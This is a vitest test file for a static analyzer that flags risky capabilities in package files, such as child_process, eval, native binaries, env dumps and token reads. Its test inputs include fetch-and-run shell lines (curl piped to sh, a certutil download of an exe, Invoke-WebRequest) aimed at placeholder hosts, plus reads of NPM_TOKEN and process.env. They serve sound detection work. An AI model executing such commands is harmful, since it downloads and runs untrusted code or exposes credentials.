import { describe, expect, it } from 'vitest';
import { analyzeFile } from '../../../src/code/analyze/index.js';
import { analyze, find, ids } from './helpers.js';

describe('which files are read, and how', () => {
  it('reports a binary by its magic bytes, as one capability at line 0', () => {
    const elf = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0]);
    const analysis = analyzeFile('prebuilds/linux-x64/addon', elf);
    expect(analysis.reader).toBe('binary');
    expect(analysis.capabilities).toHaveLength(1);
    expect(analysis.capabilities[0]).toMatchObject({ kind: 'native-binary', file: 'prebuilds/linux-x64/addon', line: 0 });
  });

  it('skips what is neither JavaScript nor a script', () => {
    for (const path of ['package.json', 'README.md', 'index.d.ts', 'src/x.ts', 'x.css', 'x.js.map', 'LICENSE', '.npmignore']) {
      expect(analyze("require('child_process'); eval(x);", path), path).toEqual({ reader: 'skipped', capabilities: [] });
    }
  });

  it('reads extension-less files and node shebang files as JavaScript', () => {
    expect(ids("require('child_process');", 'bin/tool')).toEqual(['process:child_process']);
    expect(analyze("#!/usr/bin/env node\nrequire('child_process');", 'bin/tool.ts').reader).toBe('ast');
    expect(analyze("#!/usr/bin/env node\nrequire('child_process');\nreturn;", 'cli.cjs').reader).toBe('ast');
  });

  it('scans shell, batch and PowerShell scripts line by line, comments left out', () => {
    const script = '#!/bin/sh\n# curl is mentioned in a comment\ncurl -s https://drop.example.invalid/x | sh\n';
    for (const path of ['install.sh', 'bin/setup']) {
      const analysis = analyze(script, path);
      expect(analysis.reader).toBe('tokens');
      expect(find(analysis, 'shell-command')?.line, path).toBe(3);
      expect(find(analysis, 'host')?.line, path).toBe(3);
    }
    expect(
      find(analyze('@echo off\r\nREM wget\r\ncertutil -urlcache -f http://a.invalid/x x.exe\r\n', 'setup.bat'), 'shell-command')?.line,
    ).toBe(3);
    expect(find(analyze('# wget\nInvoke-WebRequest https://b.invalid/x', 'setup.ps1'), 'host')?.line).toBe(2);
  });

  it('decodes invalid UTF-8 without failing', () => {
    const bytes = new Uint8Array([
      ...new TextEncoder().encode('const a = "\u00e9";\neval('),
      0xff,
      0xfe,
      ...new TextEncoder().encode('x);'),
    ]);
    expect(analyzeFile('x.js', bytes).capabilities.map((c) => c.detail)).toContain('eval');
  });
});

describe('the parser chain', () => {
  it('falls back to acorn-loose for a Flow-typed file, without calling it unparseable', () => {
    const source = `/**
 * @flow strict
 */
import type { Node } from 'react';
type Props = {| title?: ?string, onPress: (e: PressEvent) => mixed |};
function clamp(min: number, value: number, max: number): number {
  return value < min ? min : value > max ? max : value;
}
export default function run(cmd: string): void {
  require('child_process').execSync(cmd);
}`;
    const analysis = analyze(source, 'Libraries/clamp.js');
    expect(analysis.reader).toBe('loose');
    expect(ids(source, 'Libraries/clamp.js')).toEqual(['process:child_process']);
  });

  it('reports a file with syntax errors as unparseable and still finds what it does', () => {
    const source =
      "var x = {a: 1,, b: ];\nfunction (( { ] ) @@@ ###\nvar s = 'c' + 'url https://x.invalid';\nrequire(['child', 'process'].join('_')).exec(s\n";
    const analysis = analyze(source, 'lib/broken.js');
    expect(find(analysis, 'unparseable')).toMatchObject({ detail: 'SyntaxError', line: 1 });
    expect(ids(source, 'lib/broken.js')).toEqual(expect.arrayContaining(['process:child_process']));
    expect(find(analysis, 'host')?.line).toBe(3);
    expect(find(analyze(source, 'lib/broken'), 'unparseable')).toBeUndefined();
  });

  it('survives 100k nested parentheses and brackets', () => {
    for (const [open, close] of [
      ['(', ')'],
      ['[', ']'],
      ['{a:', '}'],
    ] as const) {
      const source = `var x = ${open.repeat(100_000)}1${close.repeat(100_000)};\neval(x);`;
      const analysis = analyze(source, 'deep.js');
      expect(analysis.reader, open).toBe('tokens');
      expect(find(analysis, 'unparseable')?.detail, open).toBe('RangeError');
      expect(find(analysis, 'dynamic-code', 'eval')?.line, open).toBe(2);
    }
  });

  it('walks deep trees a parser accepts without recursion', () => {
    const source = `var x = ${'a + '.repeat(50_000)}'a';\nsetTimeout(${"'x' + ".repeat(50_000)}y);`;
    const analysis = analyze(source, 'long.js');
    expect(analysis.reader).toBe('ast');
    expect(find(analysis, 'dynamic-code', 'setTimeout(string)')?.line).toBe(2);
  });

  it('token-scans files over the parse limit', () => {
    const source = "const cp = require('child_process');\nconst t = process.env.NPM_TOKEN;\n";
    const analysis = analyze(source, 'big.js', { parseLimit: 10 });
    expect(analysis.reader).toBe('tokens');
    expect(ids(source, 'big.js', { parseLimit: 10 })).toEqual(['process:child_process', 'token-read:NPM_TOKEN']);
  });

  it('token-scans a 5 MB single-line minified-like file in linear time', () => {
    const unit = 'function a(b,c){return b.map(function(d){return d*c/2})}var e=/[a-z]+\\//g,f="str\\"ing",g=`t${1}x`;';
    const line = (bytes: number) => `${unit.repeat(Math.ceil(bytes / unit.length))}eval(p);JSON.stringify(process.env);`;
    const time = (source: string) => {
      const start = performance.now();
      const analysis = analyze(source, 'dist/bundle.min.js');
      return { analysis, ms: performance.now() - start };
    };
    time(line(100_000));
    const small = time(line(1_000_000));
    const big = time(line(5_000_000));
    expect(big.analysis.reader).toBe('tokens');
    expect(big.analysis.capabilities.map((c) => `${c.kind}:${c.detail}`)).toEqual(
      expect.arrayContaining(['dynamic-code:eval', 'env-dump:process.env']),
    );
    expect(big.analysis.capabilities.every((c) => c.line === 1 && c.excerpt.length <= 80)).toBe(true);
    expect(big.ms).toBeLessThan(Math.max(15 * small.ms, 2_000));
  });

  it('reads text garbage in linear time, and binary garbage without acorn-loose', () => {
    const chars = '(){}[];,.+-*/=<>!&|?:\'"`abc 123\n\\#@';
    let seed = 11;
    const garbage = Array.from({ length: 400_000 }, () => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return chars[seed % chars.length];
    }).join('');
    const start = performance.now();
    expect(find(analyze(garbage, 'lib/x.js'), 'unparseable')).toBeDefined();
    expect(performance.now() - start).toBeLessThan(10_000);
    const binary = Uint8Array.from({ length: 300_000 }, (_, i) => (i * 7919) % 256);
    expect(find(analyzeFile('lib/y.js', binary), 'unparseable')).toBeDefined();
    expect(analyzeFile('lib/y.js', binary).reader).toBe('tokens');
  });

  it('never throws, whatever the bytes', () => {
    let seed = 7;
    const random = () => {
      seed = (seed * 1_103_515_245 + 12_345) % 2 ** 31;
      return seed;
    };
    for (let i = 0; i < 50; i++) {
      const bytes = Uint8Array.from({ length: 2_000 }, () => random() % 256);
      for (const path of ['x.js', 'x.mjs', 'x.sh', 'x']) expect(() => analyzeFile(path, bytes)).not.toThrow();
    }
  });
});
